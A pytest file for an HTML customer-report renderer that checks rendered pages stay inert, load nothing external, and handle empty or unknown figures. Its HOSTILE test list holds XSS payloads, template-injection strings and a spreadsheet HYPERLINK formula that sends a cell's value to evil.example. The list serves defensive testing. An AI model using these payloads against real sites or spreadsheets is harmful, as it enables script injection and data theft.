"""The page: what it says, and that nothing in the data acts in it."""

from __future__ import annotations

import copy
import json
import re

import pytest

from page.opened import Page, assert_inert, page_of, render, scripts_of, source_of

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=1>',
    "' onmouseover='alert(1)",
    "</title></style></svg><script>alert(2)</script>",
    "<!-- --><svg onload=alert(3)>",
    "]]><iframe src='javascript:alert(4)'>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "{{7*7}}{% raw %}",
    "abc\u202edef\u2066ghi\u2069",
    "bell\x07escape\x1b[31m\x00",
]
LONG = "x" * 10_000
LATER = ("retention", "leaving", "value")


@pytest.fixture(scope="module")
def plain():
    """A report as `Report.to_dict` gives it, of two hundred customers."""
    customers = 200
    return {
        "as_of": "2024-12-31",
        "timezone": "Europe/Berlin",
        "period": {"first": "2024-01-02", "last": "2024-12-30"},
        "intake": {
            "given": 1_030,
            "accepted": 1_000,
            "rejected": [{"reason": "amount is not a number", "count": 20}],
            "duplicates": 4,
            "folded_lines": 6,
            "unmapped": [{"word": "chat", "count": 9}],
            "negated_returns": 3,
            "unseen": 0,
            "without_customer": 11,
        },
        "customers_count": customers,
        "trust": {
            "mean": 0.55,
            "median": 0.54,
            "prior": 0.5,
            "below_prior_count": 30,
            "no_evidence_count": 12,
            "bins": [
                {"low": each / 20, "high": (each + 1) / 20, "customers_count": 10}
                for each in range(20)
            ],
            "evidence": [
                {"rule": "kind:purchase", "count": 900, "good_weight": 281.25, "bad_weight": 0.0},
                {"rule": "kind:complaint", "count": 10, "good_weight": 0.0, "bad_weight": 20.0},
            ],
        },
        "stages": {
            "know": 40,
            "like": 60,
            "trust": 100,
            "funnel": {"top": 20, "middle": 10, "bottom": 5},
        },
        "concentration": {
            "customers_count": 165,
            "revenue_amount": 98_765.4,
            "unknown_count": 2,
            "negative_count": 0,
            "top_count": 33,
            "top_share": 0.61,
            "majority_count": 60,
            "majority_customers_share": 60 / 165,
            "pareto_customers_share": 0.27,
            "gini": 0.58,
            "hhi": 0.02,
            "effective_count": 50.0,
            "lorenz": [
                {"customers_share": 0.0, "revenue_share": 0.0},
                {"customers_share": 0.2, "revenue_share": 0.61},
                {"customers_share": 1.0, "revenue_share": 1.0},
            ],
        },
        "segments": [
            {
                "segment": segment,
                "customers_count": 55,
                "revenue_amount": 30_000.0,
                "revenue_share": each,
            }
            for segment, each in (("A", 0.8), ("B", 0.15), ("C", 0.05))
        ],
        "cohorts": [
            cohort(month, age, share)
            for month, shares in ((1, (1, 0.4, 0.4, 0.4)), (2, (1, 0.1, 0.1, 0.1)))
            for age, share in enumerate(shares)
        ],
        "attention": [customer(f"customer {place}") for place in range(10)],
        **not_told("it was not asked for"),
    }


def not_told(why):
    return {
        name: None if name in LATER else why for each in LATER for name in (each, f"{each}_reason")
    }


def cohort(month, age, share, size=100, *, is_complete=True):
    return {
        "cohort_month": f"2024-{month:02}-01",
        "age_months": age,
        "customers_count": round(size * share),
        "cohort_size": size,
        "retention_share": share,
        "retention_low": share,
        "retention_high": share,
        "is_complete": is_complete,
    }


def customer(name):
    return {
        "customer_id": name,
        "reasons": ["bought every 9 days on average and has been silent for 90 days"],
        "trust": 0.61,
        "stage": "trust",
        "revenue_amount": 1_234.5,
        "last_purchase_day": "2024-10-02",
        "recency_days": 90,
        "segment": "A",
    }


@pytest.fixture(scope="module")
def plain_tags(plain):
    return page_of(plain).tags


@pytest.fixture(scope="module")
def empty(plain):
    return {
        **copy.deepcopy(plain),
        "period": {"first": None, "last": None},
        "intake": dict.fromkeys(plain["intake"], 0) | {"rejected": [], "unmapped": []},
        "customers_count": 0,
        "trust": dict.fromkeys(plain["trust"]) | {"prior": 0.5, "bins": [], "evidence": []},
        "stages": {
            "know": 0,
            "like": 0,
            "trust": 0,
            "funnel": {"top": 0, "middle": 0, "bottom": 0},
        },
        "concentration": None,
        "segments": [],
        "cohorts": [],
        "attention": [],
        **not_told("nobody bought anything"),
    }


def everywhere(report, text):
    """The report with a text in every place that can hold one of the user's own."""
    made = copy.deepcopy(report)
    made["timezone"] = text
    made["intake"]["rejected"] = [{"reason": text, "count": 1}]
    made["intake"]["unmapped"] = [{"word": text, "count": 1}]
    for row in made["trust"]["evidence"]:
        row["rule"] = text
    for row in made["segments"]:
        row["segment"] = text
    for row in made["attention"]:
        row.update(customer_id=text, reasons=[text, text], stage=text, segment=text)
    return made


# Safety --------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, LONG])
def test_nothing_in_the_data_acts_in_the_page(text, plain, plain_tags):
    html = render(everywhere(plain, text))
    page = Page(html)
    assert_inert(page)
    assert page.open == []
    assert page.tags <= plain_tags
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x00\x07\x1b]", html)


@pytest.mark.parametrize("text", ["{{7*7}}", "<b>x</b>", "=1+1"])
def test_a_name_is_shown_as_it_is_written(text, plain):
    assert page_of(everywhere(plain, text)).text.count(text) > 20


def test_a_long_id_is_cut_where_all_can_see_it_and_whole_in_its_title(plain):
    page = page_of(everywhere(plain, LONG))
    titles = [attributes["title"] for _, attributes in page.elements if "title" in attributes]
    assert LONG in titles
    assert any("…" in text and "(10,000 characters)" in text for text in page.text)
    assert max(map(len, page.text)) < 10_000


def test_the_page_loads_nothing(plain):
    html = render(plain)
    page = Page(html)
    assert_inert(page)
    ours = html
    for attributes, script in scripts_of(page):
        if not attributes:
            ours = ours.replace(script, "")
    for address in ("http://", "https://", "url(", "@import"):
        assert address not in ours
    assert "default-src 'none'" in page.policy


def test_the_only_scripts_that_may_run_are_those_of_the_page(plain):
    page = page_of(plain)
    running = [script for attributes, script in scripts_of(page) if not attributes]
    (allowed,) = re.findall("script-src ([^;]*)", page.policy)
    assert allowed.split() == [source_of(script) for script in running]
    assert len(running) == 2
    assert "eval" not in page.policy


def test_every_chart_goes_along_as_data_that_nothing_runs(plain):
    page = page_of(everywhere(plain, "</script><script>alert(1)</script>"))
    specs = [json.loads(held) for attributes, held in scripts_of(page) if attributes]
    assert len(specs) == 6
    for spec in specs:
        assert "layer" in spec
        assert "$schema" not in spec


def test_one_report_makes_one_page(plain):
    assert render(plain) == render(copy.deepcopy(plain))


def test_no_data_swell_the_page(plain):
    made = everywhere(plain, '"' * 100_000)
    made["intake"]["unmapped"] = [{"word": f"{n}{LONG}", "count": n} for n in range(5_000)]
    made["intake"]["rejected"] = [{"reason": f"{n}{LONG}", "count": n} for n in range(5_000)]
    made["cohorts"] = [
        {**cohort(1, age, 0.1), "cohort_month": f"{1900 + each}-01-01"}
        for each in range(24)
        for age in range(3_600)
    ]
    assert len(render(made).encode()) < 3_000_000


# What it says --------------------------------------------------------------------------------


def text_of(report):
    return " ".join(" ".join(page_of(report).text).split())


def test_the_first_thing_is_whom_to_look_at(plain):
    text = text_of(plain)
    assert text.index("customer 0") < text.index("How many customers have which trust")
    for place in range(10):
        assert f"customer {place}" in text
    assert "2 October 2024 90 days ago" in text


def test_every_question_has_its_answer_in_a_sentence(plain):
    text = text_of(plain)
    assert "The 33 largest customers of 165 who bought bring 61.0% of the revenue of 98,765" in text
    assert "The weakest cohort is February 2024" in text
    assert "40.0% of 100" in text
    assert "11 interactions without a customer" in text
    assert "20 rows that could not be read" in text
    assert "the amount of 2 purchases" in text


def test_a_difference_that_chance_may_make_is_called_so(plain):
    made = copy.deepcopy(plain)
    made["cohorts"] = [
        cohort(month, age, share) for month, share in ((1, 0.30), (2, 0.32)) for age in range(4)
    ]
    assert "may well be chance" in text_of(made)
    assert "may well be chance" not in text_of(plain)


def test_a_handful_of_customers_is_no_weakest_cohort(plain):
    made = copy.deepcopy(plain)
    for row in made["cohorts"]:
        row["cohort_size"] = 9
    assert "none is called best or worst" in text_of(made)


def test_every_chart_is_read_out(plain):
    page = page_of(plain)
    charts = [attributes for tag, attributes in page.elements if tag == "svg"]
    assert len(charts) == 6
    for attributes in charts:
        assert attributes["role"] == "img"
        assert len(attributes["aria-label"]) > 40


def test_the_intake_adds_up_on_the_page(plain):
    text = text_of(plain)
    for said in ("1,030", "amount is not a number", "chat", "Rows given"):
        assert said in text


def test_only_the_first_of_many_words_are_shown_and_the_rest_are_counted(plain):
    made = copy.deepcopy(plain)
    made["intake"]["unmapped"] = [{"word": f"word {n}", "count": 2} for n in range(50)]
    text = text_of(made)
    assert "And 20 more words with 40 rows." in text
    assert "word 29" in text
    assert "word 30" not in text


# What is not there ---------------------------------------------------------------------------


def test_an_empty_report_says_so_in_every_section(empty):
    text = text_of(empty)
    for said in (
        "No row was given.",
        "No customer is known here, so there is no trust to show.",
        "No amounts in this table, so no revenue is shown.",
        "Nobody bought here, so there are no cohorts.",
        "Nobody stands out",
    ):
        assert said in text
    assert "None" not in text
    assert "nan" not in text.casefold().split()


SECTIONS = ["concentration", "segments", "cohorts", "attention"]


@pytest.mark.parametrize("section", SECTIONS)
def test_each_section_may_be_missing_alone(section, plain, empty):
    assert "None" not in text_of({**plain, section: empty[section]})
    assert "None" not in text_of({**empty, section: plain[section]})


def unknown(value):
    """The value with every number of it unknown, but for the ages that place the cohorts."""
    if isinstance(value, dict):
        kept = ("prior", "low", "high", "age_months", "is_complete")
        return {key: each if key in kept else unknown(each) for key, each in value.items()}
    if isinstance(value, list):
        return [unknown(each) for each in value]
    return value if isinstance(value, str) else None


@pytest.mark.parametrize(
    "section", ["intake", "trust", "stages", "concentration", "segments", "cohorts", "attention"]
)
def test_every_number_may_be_unknown(section, plain):
    made = {**plain, section: unknown(plain[section])}
    assert "None" not in text_of(made)


@pytest.mark.parametrize(
    "name", ["top_share", "majority_count", "gini", "effective_count", "revenue_amount", "lorenz"]
)
def test_each_figure_of_revenue_may_be_unknown_alone(name, plain):
    figures = {**plain["concentration"], name: [] if name == "lorenz" else None}
    assert "None" not in text_of({**plain, "concentration": figures})
